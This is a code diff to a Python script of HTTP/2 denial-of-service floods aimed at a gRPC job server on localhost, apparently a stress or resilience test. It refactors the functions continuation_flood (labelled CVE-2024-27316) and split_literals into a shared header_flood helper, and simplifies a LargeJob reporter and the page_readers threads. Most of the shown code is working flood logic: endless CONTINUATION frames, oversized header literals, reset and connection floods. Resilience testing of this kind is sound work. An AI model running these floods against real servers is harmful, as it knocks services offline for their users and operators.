@@ -9,8 +9,9 @@ import struct
 import threading
 import time
 
+from good_job import Reporter
 from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GET_JOB, HEADERS, RST_STREAM,
-                   STREAM_EVENTS, WINDOW_UPDATE, field, fields, fixed64, frame, grpc_message,
+                   STREAM_EVENTS, WINDOW_UPDATE, field, frame, grpc_message,
                    integer, remembered, request)
 
 EVIL = "127.0.0.2"
@@ -32,8 +33,8 @@ def again_and_again(master, until, attack):
     return connections
 
 
-def in_parallel(count, work):
-    threads = [threading.Thread(target=work) for _ in range(count)]
+def in_parallel(count, *works):
+    threads = [threading.Thread(target=work) for work in works * count]
     for thread in threads:
         thread.start()
     for thread in threads:
@@ -84,36 +85,30 @@ def reset_flood(master, until):
     return {"connections": connections, "calls": sum(sent)}
 
 
+def header_flood(master, until, begin, more):
+    """Begins headers, and then sends more of them without an end."""
+    def flood(connection, end):
+        connection.send(frame(HEADERS, 0, 1, begin))
+        while time.monotonic() < end:
+            connection.send(more)
+            sent.append(len(more))
+
+    sent = []
+    connections = again_and_again(master, until, flood)
+    return {"connections": connections, "mb": sum(sent) / 1e6}
+
+
 def continuation_flood(master, until):
     """Sends headers without an end (CVE-2024-27316)."""
     filler = b"".join(b"\x00\x01x" + integer(1000, 7) + b"y" * 1000 for _ in range(16))
 
-    def flood(connection, end):
-        connection.send(frame(HEADERS, 0, 1, request(GET_JOB)))
-        more = frame(CONTINUATION, 0, 1, filler)
-        while time.monotonic() < end:
-            connection.send(more * 8)
-            sent.append(8 * len(more))
-
-    sent = []
-    connections = again_and_again(master, until, flood)
-    return {"connections": connections, "mb": sum(sent) / 1e6}
+    return header_flood(master, until, request(GET_JOB), frame(CONTINUATION, 0, 1, filler) * 8)
 
 
 def split_literals(master, until):
     """Sends one long header in many small frames."""
-    piece = frame(CONTINUATION, 0, 1, b"y" * 100)
-
-    def flood(connection, end):
-        connection.send(frame(HEADERS, 0, 1, request(GET_JOB) + b"\x00\x01x" +
-                              integer(1 << 27, 7)))
-        while time.monotonic() < end:
-            connection.send(piece * 100)
-            sent.append(100 * len(piece))
-
-    sent = []
-    connections = again_and_again(master, until, flood)
-    return {"connections": connections, "mb": sum(sent) / 1e6}
+    begin = request(GET_JOB) + b"\x00\x01x" + integer(1 << 27, 7)
+    return header_flood(master, until, begin, frame(CONTINUATION, 0, 1, b"y" * 100) * 100)
 
 
 def open_calls(master, until):
@@ -232,15 +227,12 @@ class LargeJob:
 
     def __init__(self, master, job_id, stages):
         self.stages = stages
-        self.sequence = 0
-        self.connection = master.connect("127.0.0.1").greet()
-        self.connection.send(frame(HEADERS, END_HEADERS, 1, request(STREAM_EVENTS, master.token)))
-        self._send([field(1, field(1, "large job"))],
-                   field(2, field(2, "large-source") + field(3, job_id)))
+        self.reporter = Reporter(master, job_id)
+        self.reporter.send(field(1, field(1, "large job")))
         for first in range(0, stages, self.AT_ONCE):
-            self._send([
+            self.reporter.send(*(
                 field(3, field(1, k) + field(3, f"stage number {k} of a large job") + field(7, 3) +
-                      field(8, 4)) for k in range(first, first + self.AT_ONCE)])
+                      field(8, 4)) for k in range(first, first + self.AT_ONCE)))
         self.closing = threading.Event()
         self.thread = threading.Thread(target=self._report)
         self.thread.start()
@@ -248,27 +240,7 @@ class LargeJob:
     def close(self):
         self.closing.set()
         self.thread.join()
-        self.connection.close()
-
-    def _send(self, events, source=b""):
-        """Sends events and returns after their acknowledgement."""
-        batch = source + field(4, self.sequence + 1) + fixed64(5, time.time_ns())
-        self.sequence += len(events)
-        self.connection.send(frame(
-            DATA, 0, 1, grpc_message(batch + b"".join(field(7, event) for event in events))))
-        unread = b""
-        while True:
-            kind, flags, stream, payload = self.connection.read_frame()
-            if stream == 1 and (kind == RST_STREAM or kind == HEADERS and flags & END_STREAM):
-                raise ConnectionError("the stream of the large job was ended")
-            if kind != DATA:
-                continue
-            unread += payload
-            while len(unread) >= 5 and len(unread) >= 5 + int.from_bytes(unread[1:5], "big"):
-                end = 5 + int.from_bytes(unread[1:5], "big")
-                response, unread = unread[5:end], unread[end:]
-                if any(n == 2 and value >= self.sequence for n, value in fields(response)):
-                    return
+        self.reporter.connection.close()
 
     def _report(self):
         task = 0
@@ -279,7 +251,7 @@ class LargeJob:
                     attempt = field(1, task % self.stages) + field(2, task // self.stages % 4)
                     events.append(field(5, field(1, attempt) + field(2, 2)))
                     task += 1
-                self._send(events)
+                self.reporter.send(*events)
         except OSError:
             pass
 
@@ -305,10 +277,6 @@ def page_readers(master, until):
                 except TimeoutError:
                     pass
 
-    threads = [threading.Thread(target=page, args=(i < 15,)) for i in range(30)]
-    for thread in threads:
-        thread.start()
-    for thread in threads:
-        thread.join()
+    in_parallel(15, lambda: page(True), lambda: page(False))
     job.close()
     return {"mb_read": sum(read) / 1e6}
